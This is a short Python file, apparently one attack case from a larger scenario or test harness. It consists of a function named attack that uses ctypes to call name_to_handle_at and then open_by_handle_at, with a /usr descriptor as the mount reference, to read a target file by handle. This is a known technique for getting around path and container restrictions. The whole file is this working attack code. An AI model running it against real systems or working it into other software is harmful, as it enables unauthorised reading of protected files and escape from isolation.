"""Take a handle of the reference and open that."""
import ctypes
import os


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def attack(x):
    libc = ctypes.CDLL(None)
    handle, mount = Handle(128), ctypes.c_int()
    libc.name_to_handle_at(-100, SCENE["reference"].encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
    where = os.open("/usr", os.O_RDONLY)
    return os.read(libc.open_by_handle_at(where, ctypes.byref(handle), 0), 1000).decode()
